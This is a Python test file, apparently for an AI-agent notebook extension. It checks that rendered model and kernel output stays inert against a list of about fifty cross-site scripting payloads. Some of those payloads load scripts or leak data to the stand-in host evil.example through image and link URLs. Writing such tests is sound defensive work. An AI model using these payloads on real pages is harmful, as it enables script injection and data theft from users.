"""Nothing that a model, a session or a file wrote can run, load or link anywhere from a notebook's page.

What is shown is read as the most careless notebook would: HTML is taken as it is, and Markdown is rendered with HTML in it and every link.
"""

import base64
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from codeact.notebook import blocks
from codeact.notebook.prose import fenced, harmless_markdown
from codeact.notebook.tables import harmless_tables
from notebook.kernels import LOAD, acting, executed, script

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/?leak'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input autofocus onfocus=alert(1)></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=http://evil.example>",
    "<video><source onerror=alert(1)></video>",
    "</pre></div><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<\u202escript>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\njavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](\\javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]:\njavascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/?leak)",
    "![x][y]\n\n[y]: http://evil.example/?leak",
    "[![x](http://evil.example/?leak)](javascript:alert(1))",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "~~~\n```\n<script>alert(1)</script>",
    "`````\n````\n<script>alert(1)</script>",
    "\r```\r<script>alert(1)</script>",
    "    <script>alert(1)</script>\n\n<script>alert(1)</script>",
    "a\n\n<div\nonmouseover=alert(1)>\n",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
]

PLACES = {"div", "pre", "span", "p", "table", "thead", "tbody", "tr", "th", "td"}
PROSE = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "a", "h1", "h2", "h3", "blockquote", "hr", "br"}
BUNDLES = ["text/html", "text/markdown", "text/plain", "application/json", "image/svg+xml", "image/png", "text/latex", "x/unknown"]


class Page(HTMLParser):
    """Everything active that a page holds."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if not self._is_quiet(tag, name, value or ""):
                self.active.append(f"{tag} {name}={value}")
        if tag not in PLACES | PROSE | {"img"}:
            self.active.append(tag)

    def _is_quiet(self, tag: str, name: str, value: str) -> bool:
        match tag, name:
            case "a", "href":
                return value.startswith(("http://", "https://", "mailto:"))
            case "img", "src":
                return value.startswith(("data:image/svg+xml;base64,", "data:image/png;base64,"))
            case _, "style":
                return "url" not in value and "expression" not in value
            case _:
                return name in {"colspan", "rowspan", "border", "class", "alt"}


def active(bundle: dict[str, str]) -> list[str]:
    """What of a bundle could run, load or link, in the most careless notebook."""
    page = Page()
    careless = MarkdownIt("commonmark", {"html": True})
    careless.validateLink = lambda url: True
    page.feed(bundle.get("text/html", "") + careless.render(bundle.get("text/markdown", "")))
    page.close()
    assert set(bundle) <= {"text/html", "text/markdown", "text/plain", "image/png", "image/jpeg", "image/gif"}
    for kind in set(bundle) - {"text/html", "text/markdown", "text/plain"}:
        base64.b64decode(bundle[kind], validate=True)
    return page.active


def test_the_careless_page_would_see_what_is_active() -> None:
    seen = [payload for payload in PAYLOADS if active({"text/markdown": payload}) or active({"text/html": payload})]
    assert len(seen) > 35


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_inert_wherever_it_is_shown(payload: str) -> None:
    shown = [
        *(blocks.line(kind, payload) for kind in ("status", "note", "warning", "thought", "error")),
        *(blocks.verbatim([(name, payload)]) for name in ("stdout", "stderr", "error")),
        blocks.markdown(payload),
        {"text/markdown": fenced(payload)},
        *(blocks.rich({kind: payload}) for kind in BUNDLES),
        *(blocks.rich({kind: payload, "text/plain": "<x>"}) for kind in BUNDLES),
        blocks.rich({"text/html": f"<table {payload}><tr><td {payload}>{payload}</td></tr>{payload}</table>{payload}"}),
        blocks.rich({"text/html": f"<table><tr><td colspan='{payload}' style='{payload}'>{payload}<table><tr><td>{payload}"}),
        blocks.rich({"application/json": json.dumps({payload: payload})}),
        blocks.markdown(f"before {payload} after"),
        blocks.markdown(f"> - {payload}\n"),
    ]
    assert [found for bundle in shown for found in active(bundle)] == []


def test_pieces_of_a_payload_that_streams_are_inert_together() -> None:
    screen = blocks.verbatim([("stdout", "<scr"), ("stderr", "ipt>alert(1)</scr"), ("stdout", "ipt>")])
    assert active(screen) == []


def test_an_svg_is_inside_an_image_whole() -> None:
    drawing = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    html = blocks.rich({"image/svg+xml": drawing})["text/html"]
    assert base64.b64decode(html.partition("base64,")[2].partition('"')[0]).decode() == drawing


def test_a_table_keeps_its_cells_its_head_and_its_spans() -> None:
    html = (
        "<style>.x {}</style><table id='t'><thead><tr><th colspan='2' onclick='x'>a &lt; b</th></tr></thead>"
        "<tr><td rowspan=99999999><b>1</b></td><td>2<br>3</td></tr></table><p>1 rows</p>"
    )
    assert harmless_tables(html) == (
        '<table border="1" class="dataframe"><thead><tr><th colspan="2">a &lt; b</th></tr></thead>'
        '<tbody><tr><td rowspan="1000">1</td><td>2 3</td></tr></tbody></table><p>1 rows</p>'
    )
    assert harmless_tables("<p>no table</p>") is None


def test_a_table_of_many_cells_is_cut_and_says_so() -> None:
    html = "<table>" + "<tr><td>1</td><td>2</td></tr>" * 6000 + "</table>"
    assert (harmless_tables(html) or "").endswith("<p>1,000 more rows</p>")


def test_ordinary_markdown_stays_as_it_is() -> None:
    text = "# Head\n\n- **a** < b, `x`\n- [docs](https://example.org/a?b=c) and [near](page.md#x)\n\n```python\na[0]: int = 3\n```\n"
    assert harmless_markdown(text) == text.replace("]: int", "]: int")
    assert MarkdownIt("commonmark").render(harmless_markdown(text)) == MarkdownIt("commonmark").render(text)


def test_what_a_hostile_run_shows_in_a_real_kernel_is_inert(tmp_path: Path) -> None:
    shows = "\n".join(
        [
            "from IPython.display import display",
            f"payloads = {PAYLOADS!r}",
            "print('\\n'.join(payloads))",
            f"for kind in {BUNDLES!r}:",
            "    for payload in payloads:",
            "        display({kind: payload, 'text/plain': payload}, raw=True)",
            "open(payloads[2].replace('/', '|'), 'w').close()",
            "raise ValueError(payloads[0] + payloads[2])",
        ]
    )
    everything = "\n\n".join(payload for payload in PAYLOADS if "\x00" not in payload and "\x1b" not in payload)
    model = script(tmp_path, "evil.txt", acting(shows, everything[:2000]), f"<solution>{everything}</solution>")
    _, outputs = executed(tmp_path, LOAD, f"%%agent --model {model}\n{PAYLOADS[0]}")
    assert len(outputs) > len(PAYLOADS)
    assert {output["output_type"] for output in outputs} == {"display_data"}
    assert [found for output in outputs for found in active(dict(output["data"]))] == []
